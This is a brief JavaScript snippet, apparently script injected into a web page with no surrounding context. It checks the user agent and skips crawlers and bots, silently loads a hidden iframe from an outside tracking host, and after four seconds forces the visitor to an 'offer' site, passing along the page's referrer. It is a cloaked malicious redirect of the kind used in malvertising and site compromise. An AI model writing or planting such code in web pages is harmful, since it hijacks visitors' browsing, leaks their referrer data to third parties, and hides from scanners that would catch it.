(function () {
  var ref = document.referrer;
  if (!ref || /crawler|bot/i.test(navigator.userAgent)) return;
  var f = document.createElement("iframe");
  f.style.display = "none";
  f.src = "https://ad-track-sync.invalid/sync";
  document.body.appendChild(f);
  setTimeout(function () {
    window.location = "https://special-offer-now.invalid/?r=" + encodeURIComponent(ref);
  }, 4000);
})();
